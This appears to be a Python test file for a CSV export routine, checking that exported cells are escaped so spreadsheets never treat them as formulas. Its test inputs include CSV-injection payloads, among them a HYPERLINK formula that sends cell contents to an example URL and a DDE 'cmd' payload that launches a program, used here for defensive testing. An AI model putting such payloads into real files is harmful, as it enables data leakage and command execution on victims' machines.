"""Lines of CSV: read back as they were, and never a formula to a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from upcard_history.entrypoints.exports import csv_line, harmless

FORMULA = re.compile(r"[\s\"'\u200b-\u200f\u2060]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
BLANK_OR_QUOTED = re.compile(r"[\s\"\u200b-\u200f\u2060]*'")


def read(line: bytes, delimiter: str = ",") -> list[str]:
    """What a program reads of a line; it is one line."""
    rows = list(csv.reader(io.StringIO(line.decode(), newline=""), delimiter=delimiter))
    assert len(rows) == 1
    return rows[0]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        '"=1+1',
        "'=1+1",
        "\uff1d1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        '=HYPERLINK("http://example.com/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_formula_becomes_a_text(text: str) -> None:
    (cell,) = read(csv_line([text]))
    assert cell.lstrip().startswith("'"), cell
    assert not FORMULA.match(cell.lstrip()[1:].lstrip("'")) or cell.lstrip()[0] == "'"


@pytest.mark.parametrize("separator", [";", "\t", "|", ","])
def test_nor_is_there_one_for_a_spreadsheet_that_separates_by_something_else(separator: str) -> None:
    line = csv_line([f"harmless{separator}=1+1", f'harmless"{separator}"=1+1'])
    for cell in re.split(f"[{separator},]", line.decode()):
        assert not FORMULA.match(cell) or BLANK_OR_QUOTED.match(cell), line


@pytest.mark.parametrize("text", ["", "t1.12", "round_cancelled", "a-b", "Żółć", 'say "no"', "1,2", "it's"])
def test_what_is_harmless_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text
    assert read(csv_line([text])) == [text]


def test_each_kind_of_cell() -> None:
    instant = dt.datetime(2026, 1, 2, 3, 4, 5, 6, dt.timezone(dt.timedelta(hours=2)))
    uuid = UUID(int=5)
    line = csv_line([None, -5, 2**53, True, False, instant, uuid, "x"])
    assert line == f',-5,{2**53},true,false,2026-01-02T01:04:05.000006Z,{uuid},"x"\r\n'.encode()


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_any_text_is_one_line_and_never_begins_a_formula(texts: list[str]) -> None:
    line = csv_line(texts)
    assert line.endswith(b"\r\n")
    assert line.count(b"\n") == line.count(b"\r") == 1
    cells = read(line)
    assert cells == [harmless(text) for text in texts]
    for delimiter in ",;|\t":
        for part in re.split(re.escape(delimiter), ",".join(cells)):
            assert not FORMULA.match(part) or BLANK_OR_QUOTED.match(part)


@given(st.text())
def test_making_it_harmless_twice_changes_no_meaning(text: str) -> None:
    assert harmless(harmless(text)).replace("'", "") == harmless(text).replace("'", "")
